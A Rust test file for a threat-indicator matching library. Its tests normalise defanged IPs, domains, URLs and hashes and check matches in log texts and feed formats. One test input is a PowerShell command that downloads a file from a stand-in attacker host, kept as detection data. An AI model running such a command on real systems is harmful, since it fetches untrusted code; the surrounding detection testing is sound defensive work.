#[path = "../../../fuzz/check.rs"]
mod check;
mod readers;

use std::net::IpAddr;

use proptest::prelude::*;

use super::read::load_text;
use super::value::{address, refang};
use super::*;
use crate::indicators;

#[test]
fn texts_have_one_spelling() {
    let cases = [
        ("192.0.2.1", Kind::Address, "192.0.2.1"),
        ("192[.]0[.]2(.)1", Kind::Address, "192.0.2.1"),
        ("::ffff:192.0.2.1", Kind::Address, "192.0.2.1"),
        ("192.0.2.1:443", Kind::Address, "192.0.2.1"),
        ("[2001:DB8::1]:443", Kind::Address, "2001:db8::1"),
        ("192.0.2.1/32", Kind::Address, "192.0.2.1"),
        ("192.0.2.77/24", Kind::Network, "192.0.2.0/24"),
        ("2001:db8::5/32", Kind::Network, "2001:db8::/32"),
        ("Evil[.]Example.", Kind::Domain, "evil.example"),
        ("\"evil[dot]example\",", Kind::Domain, "evil.example"),
        ("*.evil.example", Kind::Domain, "evil.example"),
        ("||evil.example^", Kind::Domain, "evil.example"),
        ("evil.example:8443", Kind::Domain, "evil.example"),
        ("bücher.example", Kind::Domain, "xn--bcher-kva.example"),
        ("XN--BCHER-KVA.example", Kind::Domain, "xn--bcher-kva.example"),
        ("_x.evil.example", Kind::Domain, "_x.evil.example"),
        (
            "D41D8CD98F00B204E9800998ECF8427E",
            Kind::Hash,
            "d41d8cd98f00b204e9800998ecf8427e",
        ),
        ("hxxp://evil[.]example", Kind::Url, "http://evil.example/"),
        (
            "hXXps[://]Evil.example:443/A%2fb%7e?q=1#x",
            Kind::Url,
            "https://evil.example/A%2Fb~?q=1",
        ),
        (
            "https://user:pw@evil.example:8443/",
            Kind::Url,
            "https://evil.example:8443/",
        ),
        (
            "http://[2001:DB8:0::1]:80/ä b",
            Kind::Url,
            "http://[2001:db8::1]/%C3%A4%20b",
        ),
        (
            "evil.example/a?u=http://b.example/",
            Kind::Url,
            "evil.example/a?u=http://b.example/",
        ),
    ];
    for (text, kind, spelled) in cases {
        let value = Value::read(text).unwrap_or_else(|message| panic!("{text}: {message}"));
        assert_eq!(
            (value.kind(), value.to_string().as_str()),
            (kind, spelled),
            "{text}"
        );
        // What is spelled so is read as the same, and found.
        let again = Value::read(spelled).unwrap();
        assert_eq!(again.bytes(), value.bytes(), "{text}");
    }
    for text in [
        "",
        "com",
        "localhost",
        "0.0.0.0/0",
        "10.0.0.0/33",
        "::/0",
        "a..b",
        "1.2.3",
        "1.2.3.4-1.2.3.9",
        "me@evil.example",
    ] {
        assert!(Value::read(text).is_err(), "{text}");
    }
    assert_eq!(
        Value::read_url("evil.example").unwrap().to_string(),
        "evil.example/"
    );
    assert_eq!(refang("a\\.b{.}c"), "a.b.c");
}

fn one(text: &str) -> IndicatorSet {
    let mut builder = SetBuilder::new();
    let list = builder.list("l", &Settings::default());
    builder.add(list, &Value::read(text).unwrap(), &About::default(), None);
    builder.finish()
}

#[test]
fn texts_of_events_are_found_however_written() {
    let cases: &[(&str, Asked, &str, bool)] = &[
        ("192.0.2.1", Asked::Address, "192.0.2.1", true),
        ("192.0.2.1", Asked::Address, "::ffff:192.0.2.1", true),
        ("192.0.2.1", Asked::Address, "::FFFF:C000:201", true),
        ("192.0.2.1", Asked::Address, "192.0.2.10", false),
        ("192.0.2.1", Asked::Address, "evil.example", false),
        ("2001:db8::1", Asked::Address, "[2001:DB8:0:0::1]", true),
        ("fe80::1", Asked::Address, "fe80::1%4", true),
        ("192.0.2.0/24", Asked::Address, "192.0.2.255", true),
        ("192.0.2.0/24", Asked::Address, "192.0.3.0", false),
        ("192.0.2.0/24", Asked::Domain, "192.0.2.9", true),
        ("192.0.2.0/24", Asked::Url, "http://192.0.2.9:8080/x", true),
        ("2001:db8::/32", Asked::Url, "http://[2001:db8::7]/x", true),
        ("evil.example", Asked::Domain, "EVIL.example.", true),
        ("evil.example", Asked::Domain, "a.b.evil.example", true),
        ("evil.example", Asked::Domain, "notevil.example", false),
        ("evil.example", Asked::Domain, "example", false),
        ("evil.example", Asked::Url, "https://www.evil.example/login", true),
        ("evil.example", Asked::Url, "www.evil.example/login", true),
        ("evil.example", Asked::Url, "/login?to=evil.example", false),
        ("bücher.example", Asked::Domain, "www.xn--bcher-kva.example", true),
        ("xn--bcher-kva.example", Asked::Domain, "Bücher.example", true),
        // Below a public suffix everybody has a name.
        ("duckdns.org", Asked::Domain, "duckdns.org", true),
        ("duckdns.org", Asked::Domain, "somebody.duckdns.org", false),
        ("*.duckdns.org", Asked::Domain, "somebody.duckdns.org", true),
        (
            "http://evil.example/a",
            Asked::Url,
            "http://EVIL.example:80/a#top",
            true,
        ),
        (
            "http://evil.example/a",
            Asked::Url,
            "https://evil.example/a",
            false,
        ),
        ("http://evil.example/a", Asked::Url, "evil.example/a", true),
        ("evil.example/a", Asked::Url, "https://evil.example/a", true),
        (
            "http://evil.example/a",
            Asked::Url,
            "http://evil.example/A",
            false,
        ),
        (
            "http://evil.example/a",
            Asked::Url,
            "http://evil.example/a?b",
            false,
        ),
        ("http://evil.example/a", Asked::Domain, "evil.example", false),
        (
            "d41d8cd98f00b204e9800998ecf8427e",
            Asked::Hash,
            "D41D8CD98F00B204E9800998ECF8427E",
            true,
        ),
        (
            "d41d8cd98f00b204e9800998ecf8427e",
            Asked::Hash,
            "SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
            true,
        ),
        (
            "d41d8cd98f00b204e9800998ecf8427e",
            Asked::Hash,
            "IMPHASH=D41D8CD98F00B204E9800998ECF8427E",
            false,
        ),
        (
            "192.0.2.1",
            Asked::Any,
            "type:  5 x.example;::ffff:192.0.2.1;",
            true,
        ),
        (
            "x.example",
            Asked::Any,
            "type:  5 x.example;::ffff:192.0.2.1;",
            true,
        ),
        (
            "evil.example",
            Asked::Any,
            "http://good.example/?u=evil.example",
            false,
        ),
        (
            "evil.example",
            Asked::Any,
            "powershell iwr \"http://evil.example/a\" -o b",
            true,
        ),
    ];
    for (indicator, asked, text, found) in cases {
        let set = one(indicator);
        let hits = set.find(*asked, text);
        assert_eq!(hits.len(), usize::from(*found), "{indicator} {asked:?} {text}");
    }
}

#[test]
fn a_list_has_a_value_once_and_keeps_what_is_valid_for_longest() {
    let mut builder = SetBuilder::new();
    let (one, two) = (
        builder.list("one", &Settings::default()),
        builder.list("two", &Settings::default()),
    );
    let value = Value::read("192.0.2.1").unwrap();
    let about = |description| About {
        description,
        labels: "x\ny",
        source: "s",
        severity: Some(borzoi_rules::ir::Level::Low),
        confidence: Some(80),
    };
    for (list, description, until) in [
        (one, "first", Some(100)),
        (two, "other", None),
        (one, "shorter", Some(50)),
        (one, "longer", Some(200)),
    ] {
        builder.add(list, &value, &about(description), until);
    }
    let set = builder.finish();
    let hits = set.find(Asked::Address, "192.0.2.1");
    let said: Vec<_> = hits
        .iter()
        .map(|hit| (&*hit.list().name, hit.about().description, hit.valid_until()))
        .collect();
    assert_eq!(said, [("one", "longer", Some(200)), ("two", "other", None)]);
    assert_eq!(hits[0].about(), about("longer"));
    assert!(hits[0].is_valid_at(199) && !hits[0].is_valid_at(200) && hits[1].is_valid_at(i64::MAX));
    assert!(set.lists()[0].expires && !set.lists()[1].expires);
}

/// A generated value number, always the same.
fn generated(number: u64) -> String {
    let hash = |seed| xxhash_rust::xxh3::xxh3_64_with_seed(&number.to_le_bytes(), seed);
    let (one, two) = (hash(1), hash(2));
    match number % 10 {
        0..4 => {
            let [a, b, c, d, ..] = one.to_le_bytes();
            format!("{}.{b}.{c}.{d}", a.max(1))
        }
        4..7 => format!("{:x}.host{:x}.example", one & 0xff_ffff, two & 0xffff_ffff),
        7 | 8 => format!("{one:016x}{two:016x}{:016x}{:016x}", hash(3), hash(4)),
        _ => format!(
            "http://host{:x}.example/files/{two:x}/load.php?id={}",
            one & 0xffff_ffff,
            number % 1000
        ),
    }
}

/// Slow without optimisation, and each takes the same then.
const MANY: u64 = if cfg!(debug_assertions) {
    100_000
} else {
    2_000_000
};

#[test]
fn two_million_take_less_than_200_bytes_each() {
    let mut builder = SetBuilder::new();
    let lists: Vec<_> = (0..8)
        .map(|number| builder.list(&format!("list{number}"), &Settings::default()))
        .collect();
    for number in 0..MANY {
        let value = Value::read(&generated(number)).unwrap();
        // Every one says something else, as feeds with references do.
        let description = format!("Some family, reference {number:08}");
        let about = About {
            description: &description,
            labels: ["c2\nbot", "phishing", "dropper"][(number % 3) as usize],
            source: "feed",
            severity: None,
            confidence: Some((number % 4 * 25) as u8),
        };
        builder.add(
            lists[(number % 8) as usize],
            &value,
            &about,
            Some(1_800_000_000_000_000),
        );
    }
    let set = builder.finish();
    assert!(set.len() as u64 > MANY / 1000 * 995, "{}", set.len());
    let memory = set.memory();
    let each = memory.total() as f64 / set.len() as f64;
    println!("{each:.1} bytes an indicator: {memory:?}");
    assert!(each < 160.0, "{each} bytes an indicator, {memory:?}");
    for number in (0..MANY).step_by(9_991) {
        assert!(!set.find(Asked::Any, &generated(number)).is_empty(), "{number}");
    }
}

/// The definition: looks at every indicator of the list, one after the other.
fn by_definition(indicators: &[(u16, Value)], asked: Asked, text: &str) -> Vec<(u16, String)> {
    let mut found: Vec<(u16, String)> = Vec::new();
    let mut hosts = Vec::new();
    let mut urls = Vec::new();
    let is_address = address(text).is_some();
    let looks_like_url = text.contains('/');
    match asked {
        Asked::Address | Asked::Hash => hosts.push(text.to_owned()),
        Asked::Domain => hosts.push(text.to_owned()),
        Asked::Url => urls.push(text.to_owned()),
        Asked::Any if !is_address && looks_like_url => urls.push(text.to_owned()),
        Asked::Any => hosts.push(text.to_owned()),
    }
    for url in urls {
        if let Ok(value) = Value::read_url(&url) {
            let spelled = value.to_string();
            let host = spelled
                .split_once("://")
                .map_or(spelled.as_str(), |(_, rest)| rest);
            let host = host.split('/').next().unwrap().to_owned();
            let host = match host.strip_prefix('[') {
                Some(host) => host.split(']').next().unwrap().to_owned(),
                None => host.split(':').next().unwrap().to_owned(),
            };
            hosts.push(host);
            for (list, indicator) in indicators.iter().filter(|(_, i)| i.kind() == Kind::Url) {
                let its = indicator.to_string();
                let (a, b) = (its.split_once("://"), spelled.split_once("://"));
                let same = match (a, b) {
                    (Some(_), Some(_)) | (None, None) => its == spelled,
                    (Some((_, rest)), None) => rest == spelled,
                    (None, Some((_, rest))) => rest == its,
                };
                if same {
                    found.push((*list, its));
                }
            }
        }
    }
    for host in hosts {
        let address: Option<IpAddr> = address(&host);
        for (list, indicator) in indicators {
            let its = indicator.to_string();
            let holds = match indicator.kind() {
                Kind::Address => {
                    asked != Asked::Hash && address.is_some_and(|address| its == address.to_string())
                }
                Kind::Network => {
                    asked != Asked::Hash
                        && address.is_some_and(|address| {
                            let (network, length) = its.split_once('/').unwrap();
                            let length: u32 = length.parse().unwrap();
                            match (address, network.parse().unwrap()) {
                                (IpAddr::V4(a), IpAddr::V4(n)) => {
                                    (a.to_bits() ^ n.to_bits()) >> (32 - length) == 0
                                }
                                (IpAddr::V6(a), IpAddr::V6(n)) => {
                                    (a.to_bits() ^ n.to_bits()) >> (128 - length) == 0
                                }
                                _ => false,
                            }
                        })
                }
                Kind::Domain => {
                    let name = host.trim().to_lowercase();
                    let name = name.strip_suffix('.').unwrap_or(&name);
                    let is_letter = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
                    let is_label =
                        |label: &str| (1..=63).contains(&label.len()) && label.chars().all(is_letter);
                    let labels_ok = name.len() <= 253 && name.split('.').all(is_label);
                    !matches!(asked, Asked::Hash | Asked::Address)
                        && labels_ok
                        && address.is_none()
                        && (name == its || indicator.matches_below() && name.ends_with(&format!(".{its}")))
                }
                Kind::Hash => matches!(asked, Asked::Hash | Asked::Any) && host.trim().to_lowercase() == its,
                Kind::Url => false,
            };
            if holds {
                found.push((*list, its));
            }
        }
    }
    found.sort();
    found.dedup();
    found
}

/// Texts of a small world, so that they meet.
fn small_world() -> impl Strategy<Value = String> {
    let address4 = (0u8..3, 0u8..4).prop_map(|(a, b)| format!("192.0.{a}.{b}"));
    let network4 = (0u8..3, 0u8..4, 1u8..=32).prop_map(|(a, b, length)| format!("192.0.{a}.{b}/{length}"));
    let address6 = (0u8..3, 0u8..4).prop_map(|(a, b)| format!("2001:db8:{a}::{b}"));
    let network6 =
        (0u8..3, 0u8..4, 1u8..=128).prop_map(|(a, b, length)| format!("2001:db8:{a}::{b}/{length}"));
    let mapped = (0u8..3, 0u8..4).prop_map(|(a, b)| format!("::ffff:192.0.{a}.{b}"));
    let name = "([abAB]\\.){0,3}(evil|good)\\.(example|co\\.uk|duckdns\\.org)\\.?";
    let wild = "\\*\\.(evil\\.example|duckdns\\.org|a\\.co\\.uk)";
    let url = "(http://|https://|HTTP://|)(a\\.)?(evil\\.example|192\\.0\\.1\\.2|\\[2001:db8:1::2\\])(:80|:443|:8080|)(/|/a|/A\\?b|)(#x|)";
    let hash = "[01]{2}[0-1aA]{30}".prop_map(|text| format!("{}{}", &text[..2], "0".repeat(30)));
    prop_oneof![
        address4,
        network4,
        address6,
        network6,
        mapped,
        name,
        wild,
        url,
        hash,
        "[0-9a-z.:/\\[\\]=,; %]{0,20}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn says_what_looking_at_each_says(
        indicators in prop::collection::vec((0u16..3, small_world(), any::<bool>()), 0..40),
        texts in prop::collection::vec(small_world(), 1..20),
    ) {
        let mut builder = SetBuilder::new();
        let lists: Vec<_> = (0..3).map(|number| builder.list(&format!("{number}"), &Settings::default())).collect();
        let mut all: Vec<(u16, Value)> = Vec::new();
        for (list, text, exact) in &indicators {
            let Ok(value) = Value::read(text) else { continue };
            let value = if *exact { value.exactly() } else { value };
            builder.add(lists[usize::from(*list)], &value, &About::default(), None);
            all.push((*list, value));
        }
        let set = builder.finish();
        for text in &texts {
            // Several values in a text have tests of their own.
            if text.contains([',', ';', ' ', '=', '|']) {
                continue;
            }
            for asked in Asked::ALL {
                let mut found: Vec<(u16, String)> = set
                    .find(asked, text)
                    .iter()
                    .map(|hit| (hit.list_number().0, hit.value()))
                    .collect();
                found.sort();
                found.dedup();
                prop_assert_eq!(&found, &by_definition(&all, asked, text), "{:?} {}", asked, text);
                let mut lists: Vec<u16> = Vec::new();
                set.lists_of(asked, text, &mut |list| lists.push(list.0));
                lists.sort_unstable();
                lists.dedup();
                let mut expected: Vec<u16> = found.iter().map(|(list, _)| *list).collect();
                expected.dedup();
                prop_assert_eq!(lists, expected);
            }
        }
    }

    #[test]
    fn no_bytes_make_a_reader_fail(
        start in prop::sample::select(SAMPLES),
        cut in 0usize..2000,
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..8),
        tail in prop::collection::vec(any::<u8>(), 0..60),
        name in prop::sample::select(&["a.csv", "a.txt", "a.json", "a"][..]),
    ) {
        let mut bytes = start.as_bytes().to_vec();
        bytes.truncate(cut);
        bytes.extend(tail);
        for (place, byte) in changes {
            if !bytes.is_empty() {
                let place = place.index(bytes.len());
                bytes[place] = byte;
            }
        }
        let loaded = load_text(name, bytes.as_slice());
        for found in loaded.set.indicators() {
            prop_assert!(!loaded.set.find(Asked::Any, &found.value()).is_empty() || found.kind() == Kind::Network, "{}", found.value());
        }
        prop_assert!(loaded.files[0].problems.len() <= read::MOST_PROBLEMS);
    }

    #[test]
    fn what_is_read_is_read_again_as_itself(text in small_world()) {
        if let Ok(value) = Value::read(&text) {
            let spelled = value.to_string();
            let again = match value.kind() {
                Kind::Url => Value::read_url(&spelled),
                _ => Value::read(&spelled),
            };
            prop_assert_eq!(again.map(|value| value.to_string()), Ok(spelled));
        }
    }
}

const SAMPLES: &[&str] = &[
    "type,value,comment,valid_until\nip,192.0.2.1,\"c2, main\",2026-01-01\ndomain,evil.example,x,\n",
    "# x\n192.0.2.1\nevil[.]example ; y\n0.0.0.0 a.example b.example\nhxxp://e.example/a\n",
    r#"{"type":"bundle","objects":[{"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = '192.0.2.1' OR (url:value IN ('http://a.example/'))]"}]}"#,
    r#"{"response":[{"Event":{"info":"i","Attribute":[{"type":"ip-dst|port","value":"192.0.2.1|2","to_ids":true}],"Object":[{"Attribute":[]}]}}]}"#,
    r#"[{"indicator":"evil.example","tags":["a",{"name":"b"}],"confidence":5},"192.0.2.0/24"]"#,
];
